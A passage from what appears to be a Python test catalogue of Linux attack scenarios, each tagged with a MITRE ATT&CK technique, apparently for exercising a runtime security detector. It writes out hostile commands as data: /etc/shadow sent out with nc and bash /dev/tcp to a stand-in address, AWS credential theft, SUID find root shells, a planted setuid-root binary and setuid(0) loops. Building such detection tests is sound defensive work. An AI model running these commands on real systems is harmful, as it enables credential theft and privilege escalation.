   "setpriv --reuid=1000 --regid=1000 --clear-groups python3 -c 'import os\n"
   "for i in range(8):\n    try: os.setuid(0)\n    except OSError: pass'", (DEBIAN,),
   "exploit retrying setuid(0) as a user")
_p("setresuid retried by a user", "T1068",
   "for i in $(seq 1 6); do probe as 1000 /usr/local/bin/probe root /bin/true; done; true",
   BOTH, "privilege probing loop")
_p("shadow read then sent with nc", "T1041",
   "cat /etc/shadow > /tmp/s; nc -w 1 10.1.2.3 443 < /tmp/s; true", (BUSYBOX,),
   "credentials exfiltrated over a raw connection")
_p("shadow sent through bash /dev/tcp", "T1041",
   "timeout 3 bash -c 'd=$(cat /etc/shadow); echo \"$d\" > /dev/tcp/10.1.2.3/443' 2>/dev/null;"
   " true", (DEBIAN,),
   "exfiltration with bash alone")
_p("aws credentials read then posted by python", "T1041",
   "base64 /root/.aws/credentials > /tmp/c; python3 -c 'import socket\n"
   "s = socket.socket(); s.settimeout(0.5); s.connect_ex((\"10.9.8.7\", 80))'", (DEBIAN,),
   "TeamTNT cloud credential theft",
   "mkdir -p /root/.aws && printf '[default]\\naws_access_key_id = AKIA\\n' > "
   "/root/.aws/credentials")
_p("setuid find gives a root shell to a user", "T1548.001",
   "setpriv --reuid=1000 --regid=1000 --clear-groups /usr/bin/find /etc/hostname "
   "-exec /bin/sh -p -c 'id > /dev/null' \\;", (DEBIAN,), "GTFOBins find (SUID)",
   "chmod u+s /usr/bin/find")
_p("setuid copy of a program run by a user", "T1548.001",
   "probe as 1000 /home/app/rootsh root /bin/true", BOTH,
   "a setuid-root copy planted for later",
   "mkdir -p /home/app && cp /usr/local/bin/probe /home/app/rootsh && chmod 4755 /home/app/rootsh")
_p("recon burst after getting a shell", "T1082",
   "id; whoami; ps; mount; df; hostname > /dev/null", (DEBIAN,),
   "what an intruder runs first (linPEAS-style)")
